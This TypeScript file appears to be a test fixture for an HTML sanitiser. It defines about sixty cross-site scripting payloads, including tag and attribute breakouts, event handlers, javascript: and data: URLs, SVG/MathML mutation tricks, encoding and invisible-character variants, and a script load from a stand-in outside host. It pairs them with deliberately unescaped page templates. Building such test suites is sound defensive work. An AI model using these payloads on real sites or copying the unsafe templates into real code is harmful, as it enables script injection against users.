/** What a careless page would do with the text, so that it would run. */
const mistakes = {
  'between tags': (text: string) => `<p>${text}</p>`,
  'in double quotes': (text: string) => `<input value="${text}">`,
  'in single quotes': (text: string) => `<input value='${text}'>`,
  'in no quotes': (text: string) => `<input value=${text}>`,
  'in a textarea': (text: string) => `<textarea>${text}</textarea>`,
  'in a title': (text: string) => `<title>${text}</title>`,
  'in a style sheet': (text: string) => `<style>p::after { content: "${text}" }</style>`,
  'in a comment': (text: string) => `<!-- ${text} -->`,
  'in a string of a script': (text: string) => `<script>var typed = "${text}"</script>`,
  'in a template of a script': (text: string) => `<script>var typed = \`${text}\`</script>`,
  'in a remark of a script': (text: string) => `<script>// ${text}\n</script>`,
  'as an address': (text: string) => `<iframe src="${text}"></iframe>`,
  'as a document of its own': (text: string) => `<iframe srcdoc="${text}"></iframe>`,
  'decoded once more': (text: string) => `<script>document.write(decodeURIComponent("${text}"))</script>`,
  'normalised after it was escaped': (text: string) => `<script>document.write("${text}".normalize("NFKC"))</script>`,
};

export type Payload = {
  number: number;
  /** At most 120 characters, so that it fits into every field; no white space around it, which forms trim. */
  text: string;
  /** A page that would let it run. */
  unprotected: string;
  /** It holds characters that are not seen, or that reorder text. */
  hidden: boolean;
  /** It turns the direction of reading, and is refused; what else is hidden is taken out. */
  turns: boolean;
};

type Attack = [keyof typeof mistakes, (number: number) => string, ('hidden' | 'turns')?];

/**
 * Each calls `executed(number)` where it runs. A few run in no browser by themselves: they are for a template engine or another
 * charset, or lead to another site.
 */
const attacks: Attack[] = [
  // Out of the element that the text stands in.
  ['in a textarea', (n) => `fin</textarea><script>executed(${n})</script>`],
  ['in a textarea', (n) => `</TextArea\n><img src=x: onerror=executed(${n})>`],
  ['in a title', (n) => `Besoin</title><script>executed(${n})</script>`],
  ['in a style sheet', (n) => `"}</style><svg onload=executed(${n})>`],
  ['in a comment', (n) => `--><svg onload=executed(${n})><!--`],
  ['in a comment', (n) => `--!><details open ontoggle=executed(${n})>`],
  ['in a string of a script', (n) => `</script><script>executed(${n})</script>`],
  ['between tags', (n) => `</p></main></body></html><script>executed(${n})</script>`],

  // Out of a string.
  ['in a string of a script', (n) => `"-executed(${n})-"`],
  ['in a string of a script', (n) => `";executed(${n});//`],
  ['in a template of a script', (n) => `\${executed(${n})}`],
  ['in a remark of a script', (n) => `sans suite\u2028executed(${n})`, 'hidden'],

  // Out of an attribute.
  ['in double quotes', (n) => `"><script>executed(${n})</script>`],
  ['in double quotes', (n) => `mairie" autofocus onfocus="executed(${n})`],
  ['in single quotes', (n) => `l'><img src=x: onerror='executed(${n})`],
  ['in single quotes', (n) => `l' tabindex=1 autofocus onfocus='executed(${n})`],
  ['in no quotes', (n) => `mairie autofocus onfocus=executed(${n})`],
  ['in no quotes', (n) => `mairie><audio src=x: onerror=executed(${n})>`],
  ['in double quotes', (n) => `"><style>@keyframes k{}</style><b style="animation:k" onanimationstart="executed(${n})`],

  // Handlers of events that come by themselves.
  ['between tags', (n) => `<img src=x: onerror=executed(${n})>`],
  ['between tags', (n) => `<img src onerror=executed\`${n}\`>`],
  ['between tags', (n) => `<IMG\tSRC=x:\nONERROR = "&#101;xecuted&lpar;${n}&rpar;">`],
  ['between tags', (n) => `<img src=x: onerror=\\u0065xecuted(${n})>`],
  ['between tags', (n) => `<video><source src=x: onerror=executed(${n})></video>`],
  ['between tags', (n) => `<body onpageshow=executed(${n})>`],
  ['between tags', (n) => `<cantine tabindex=0 autofocus onfocus=executed(${n})>`],
  ['between tags', (n) => `<select autofocus onfocus=executed(${n})><option>Lot</select>`],
  ['between tags', (n) => `<style onload=executed(${n})></style>`],
  ['between tags', (n) => `<button popovertarget=lot>Lire</button><p id=lot popover onbeforetoggle=executed(${n})>`],

  // Elements that hold a script, or a document.
  ['between tags', (n) => `<script src="data:text/javascript,executed(${n})"></script>`],
  ['between tags', (n) => `<script>import('data:text/javascript,executed(${n})')</script>`],
  [
    'between tags',
    (n) => `<script type=importmap>{"imports":{"x":"data:text/javascript,executed(${n})"}}</script><script>import("x")</script>`,
  ],
  ['between tags', (n) => `<iframe srcdoc='<script>parent.executed(${n})</script>'></iframe>`],
  ['between tags', (n) => `<object data="data:text/html,<script>executed(${n})</script>"></object>`],
  ['between tags', (n) => `<div><template shadowrootmode=open><img src=x: onerror=executed(${n})></template></div>`],
  ['between tags', (n) => `<base href=//ailleurs.example><script src=pkg/executed-${n}.js></script>`],
  ['between tags', (n) => `<meta http-equiv=refresh content="0;url=https://ailleurs.example/${n}">`],
  ['between tags', (n) => `<form><button formaction=javascript:executed(${n})>Envoyer</button></form>`],
  ['between tags', (n) => `<a href="javascript:executed(${n})">Voir le besoin</a>`],

  // Drawings, formulas, and what a second reading of the page would turn into something else.
  ['between tags', (n) => `<svg><script>executed&lpar;${n}&rpar;</script></svg>`],
  ['between tags', (n) => `<svg><animate attributeName=x dur=1s onbegin=executed(${n})>`],
  ['between tags', (n) => `<svg><style><img src=x: onerror=executed(${n})></style></svg>`],
  ['between tags', (n) => `<math><mi><table><malignmark><style><!--</style><a title="--&gt;&lt;img src=x: onerror=executed(${n})&gt;">`],
  ['between tags', (n) => `<noscript><i title="</noscript><img src=x: onerror=executed(${n})>"></noscript>`],
  ['between tags', (n) => `<![CDATA[><script>executed(${n})</script>]]>`],
  ['between tags', (n) => `<!--><img src=x: onerror=executed(${n})>-->`],

  // Addresses.
  ['as an address', (n) => `javascript:executed(${n})`],
  ['as an address', (n) => `java\tscr\nipt&colon;executed(${n})`],
  ['as an address', (n) => `data:text/html;base64,${Buffer.from(`<script>executed(${n})</script>`).toString('base64')}`],

  // Written for something that reads it in another way.
  ['as a document of its own', (n) => `&lt;script&gt;executed(${n})&lt;/script&gt;`],
  ['decoded once more', (n) => `%3Cimg src=x: onerror=executed(${n})%3E`],
  ['normalised after it was escaped', (n) => `＜img src=x: onerror=executed(${n})＞`],
  ['between tags', (n) => `<scr\0ipt>executed(${n})</scr\0ipt>`],
  ['between tags', (n) => `+ADw-script+AD4-executed(${n})+ADw-/script+AD4-`],
  ['between tags', (n) => `{{executed(${n})}} <%= executed(${n}) %> #{executed(${n})} {% raw executed(${n}) %} [[\${executed(${n})}]]`],

  // With characters that are not seen. A zero-width space is text like any other: some languages need it.
  ['between tags', (n) => `\u200b<img src=x: onerror=executed(${n})>\u200b`, 'hidden'],
  ['between tags', (n) => `\u202e<script>executed(${n})</script>\u202c`, 'turns'],
  ['between tags', (n) => `<svg id=\u2066a\u2069 onload=executed(${n})>`, 'turns'],
  ['between tags', (n) => `<img\fsrc=x:\fonerror=executed(${n})>`, 'hidden'],
  ['as an address', (n) => `\u0001javascript:executed(${n})//\ufeff`, 'hidden'],
];

export const payloads: Payload[] = attacks.map(([mistake, attack, hidden], at) => {
  const text = attack(at + 1);
  // U+0000 is in no form's text: what is left of it is what a page would show.
  return {
    number: at + 1,
    text,
    unprotected: mistakes[mistake](text.replaceAll('\0', '')),
    hidden: hidden !== undefined,
    turns: hidden === 'turns',
  };
});
